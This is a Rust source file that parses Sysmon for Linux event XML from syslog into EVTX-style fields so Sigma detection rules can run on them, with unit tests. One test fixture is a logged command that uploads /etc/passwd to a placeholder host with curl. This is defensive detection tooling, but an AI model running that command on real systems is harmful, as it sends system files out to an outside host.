//! An event in Windows' event XML, as Sysmon for Linux writes each of its
//! events to syslog (`sysmon: <Event><System>…</System><EventData><Data
//! Name="Image">/usr/bin/curl</Data>…</EventData></Event>`): its fields
//! named as an EVTX record's are (`System.EventID`, `System.Channel`,
//! `System.TimeCreated.SystemTime`, `EventData.Image`), so that the
//! Sigma rules for Sysmon's event types, routed by channel and EventID,
//! run on them.
//!
//! Only what that XML holds is read: elements, attributes in double or
//! single quotes, text, the five named entities and numeric character
//! references. No DTD, no CDATA, no namespaces beyond their prefix.

use crate::event::Visitor;

/// Whether a syslog message is an event in event XML.
pub fn looks_like(msg: &str) -> bool {
    msg.starts_with("<Event>") || msg.starts_with("<Event ")
}

/// Reads one event; the error says what is wrong and at which byte.
pub fn record<V: Visitor + ?Sized>(xml: &str, v: &mut V) -> Result<(), String> {
    let mut p = Parser { s: xml, at: 0 };
    let mut path: Vec<&str> = Vec::new();
    // The `Name` attribute of the open `<Data>`, which names its text.
    let mut data_name: Option<String> = None;
    let mut text = String::new();
    loop {
        let (before, found) = p.until('<');
        if !path.is_empty() {
            unescape(before, &mut text).map_err(|e| p.error(&e))?;
        } else if !before.trim().is_empty() {
            return Err(p.error("text outside the <Event> element"));
        }
        if !found {
            break;
        }
        p.at += 1;
        if p.eat("/") {
            let name = p.name();
            p.skip_space();
            if !p.eat(">") {
                return Err(p.error("a closing tag without its '>'"));
            }
            match path.pop() {
                Some(open) if open == name => {}
                Some(open) => {
                    return Err(p.error(&format!("</{name}> closes <{open}>")));
                }
                None => return Err(p.error(&format!("</{name}> closes nothing"))),
            }
            let t = text.trim();
            if !t.is_empty() {
                let field = match data_name.take() {
                    Some(n) if name == "Data" => format!("{}.{n}", joined(&path)),
                    _ => joined_with(&path, name),
                };
                v.field(&field, t, true);
            }
            text.clear();
            if path.is_empty() {
                break;
            }
            continue;
        }
        if p.eat("?") || p.eat("!") {
            // A declaration or a comment: skipped.
            let (_, closed) = p.until('>');
            if !closed {
                return Err(p.error("a declaration without its '>'"));
            }
            p.at += 1;
            continue;
        }
        let name = p.name();
        if name.is_empty() {
            return Err(p.error("a '<' that opens no element"));
        }
        if path.is_empty() && name != "Event" {
            return Err(p.error(&format!("<{name}> where <Event> was expected")));
        }
        text.clear();
        let mut closed = false;
        loop {
            p.skip_space();
            if p.eat("/>") {
                closed = true;
                break;
            }
            if p.eat(">") {
                break;
            }
            let attr = p.name();
            if attr.is_empty() {
                return Err(p.error(&format!("<{name}> is not closed")));
            }
            p.skip_space();
            if !p.eat("=") {
                return Err(p.error(&format!("attribute {attr} without '='")));
            }
            p.skip_space();
            let q = match p.rest().chars().next() {
                Some(q @ ('"' | '\'')) => q,
                _ => return Err(p.error(&format!("attribute {attr} without a quoted value"))),
            };
            p.at += 1;
            let (raw, found) = p.until(q);
            if !found {
                return Err(p.error(&format!("attribute {attr}'s value is not closed")));
            }
            p.at += 1;
            let mut value = String::new();
            unescape(raw, &mut value).map_err(|e| p.error(&e))?;
            if name == "Data" && attr == "Name" {
                data_name = Some(value);
            } else if !value.is_empty() && !path.is_empty() {
                let mut field = joined_with(&path, name);
                field.push('.');
                field.push_str(attr);
                v.field(&field, &value, true);
            }
        }
        if !closed {
            path.push(name);
        } else if path.is_empty() {
            break;
        }
    }
    if let Some(open) = path.last() {
        return Err(p.error(&format!("<{open}> is not closed")));
    }
    Ok(())
}

/// The names below the `Event` root, dotted.
fn joined(path: &[&str]) -> String {
    path.get(1..).unwrap_or_default().join(".")
}

fn joined_with(path: &[&str], name: &str) -> String {
    let mut s = joined(path);
    if !s.is_empty() {
        s.push('.');
    }
    s.push_str(name);
    s
}

struct Parser<'a> {
    s: &'a str,
    at: usize,
}

impl<'a> Parser<'a> {
    fn rest(&self) -> &'a str {
        &self.s[self.at..]
    }

    fn error(&self, what: &str) -> String {
        format!("event XML, byte {}: {what}", self.at)
    }

    /// The text up to `c` (or the end), and whether `c` was found; the
    /// parser stops at `c`.
    fn until(&mut self, c: char) -> (&'a str, bool) {
        let rest = self.rest();
        match rest.find(c) {
            Some(i) => {
                self.at += i;
                (&rest[..i], true)
            }
            None => {
                self.at = self.s.len();
                (rest, false)
            }
        }
    }

    fn eat(&mut self, t: &str) -> bool {
        let ok = self.rest().starts_with(t);
        if ok {
            self.at += t.len();
        }
        ok
    }

    fn skip_space(&mut self) {
        let rest = self.rest();
        self.at += rest.len() - rest.trim_start().len();
    }

    fn name(&mut self) -> &'a str {
        let rest = self.rest();
        let n = rest
            .find(|c: char| !(c.is_alphanumeric() || matches!(c, '_' | '-' | '.' | ':')))
            .unwrap_or(rest.len());
        self.at += n;
        &rest[..n]
    }
}

/// Appends `raw` with its entities and character references resolved.
fn unescape(raw: &str, out: &mut String) -> Result<(), String> {
    let mut rest = raw;
    while let Some(i) = rest.find('&') {
        out.push_str(&rest[..i]);
        let after = &rest[i + 1..];
        let end = after
            .find(';')
            .filter(|&e| e <= 10)
            .ok_or("a '&' that starts no entity")?;
        let entity = &after[..end];
        let c = match entity {
            "lt" => '<',
            "gt" => '>',
            "amp" => '&',
            "quot" => '"',
            "apos" => '\'',
            _ => {
                let code = if let Some(h) = entity.strip_prefix("#x") {
                    u32::from_str_radix(h, 16).ok()
                } else if let Some(d) = entity.strip_prefix('#') {
                    d.parse().ok()
                } else {
                    None
                };
                code.and_then(char::from_u32)
                    .ok_or_else(|| format!("&{entity}; is not an entity XML knows"))?
            }
        };
        out.push(c);
        rest = &after[end + 1..];
    }
    out.push_str(rest);
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    const SYSMON: &str = "<Event><System><Provider Name=\"Linux-Sysmon\" \
        Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/><EventID>1</EventID><Version>5</Version>\
        <TimeCreated SystemTime=\"2023-11-14T22:13:20.123456000Z\"/><EventRecordID>77</EventRecordID>\
        <Channel>Linux-Sysmon/Operational</Channel><Computer>web1</Computer>\
        <Security UserId=\"0\"/></System><EventData><Data Name=\"RuleName\">-</Data>\
        <Data Name=\"Image\">/usr/bin/curl</Data><Data Name=\"CommandLine\">curl -d @/etc/passwd \
        &quot;http://a.example/?q=1&amp;r=2&quot;</Data><Data Name=\"CurrentDirectory\"></Data>\
        </EventData></Event>";

    fn read(xml: &str) -> Result<Vec<(String, String)>, String> {
        crate::event::testutil::fields(|c| record(xml, c))
    }

    #[test]
    fn a_sysmon_for_linux_event_reads_as_an_evtx_record() {
        assert!(looks_like(SYSMON));
        let got = read(SYSMON).unwrap();
        let get = |k: &str| got.iter().find(|(n, _)| n == k).map(|(_, v)| v.as_str());
        assert_eq!(get("System.Provider.Name"), Some("Linux-Sysmon"));
        assert_eq!(get("System.EventID"), Some("1"));
        assert_eq!(get("System.Channel"), Some("Linux-Sysmon/Operational"));
        assert_eq!(
            get("System.TimeCreated.SystemTime"),
            Some("2023-11-14T22:13:20.123456000Z")
        );
        assert_eq!(get("System.Security.UserId"), Some("0"));
        assert_eq!(get("EventData.Image"), Some("/usr/bin/curl"));
        assert_eq!(
            get("EventData.CommandLine"),
            Some("curl -d @/etc/passwd \"http://a.example/?q=1&r=2\"")
        );
        assert_eq!(get("EventData.CurrentDirectory"), None);
        assert_eq!(get("EventData.RuleName"), Some("-"));
    }

    #[test]
    fn broken_xml_says_where() {
        for (xml, says) in [
            ("<Event><System></Event>", "</Event> closes <System>"),
            ("<Event><System>", "<System> is not closed"),
            ("<Event><Data Name=\"x>1</Data></Event>", "not closed"),
            ("<Event><A b=1/></Event>", "quoted value"),
            ("<Event><A>&bogus;</A></Event>", "&bogus;"),
            ("<Event><A>a & b</A></Event>", "no entity"),
            ("<Other/>", "where <Event> was expected"),
            ("<Event></A></Event>", "</A> closes <Event>"),
            ("<Event><A>&#xD800;</A></Event>", "&#xD800;"),
        ] {
            let e = read(xml).unwrap_err();
            assert!(e.contains(says) && e.contains("byte"), "{xml}: {e}");
        }
    }
}
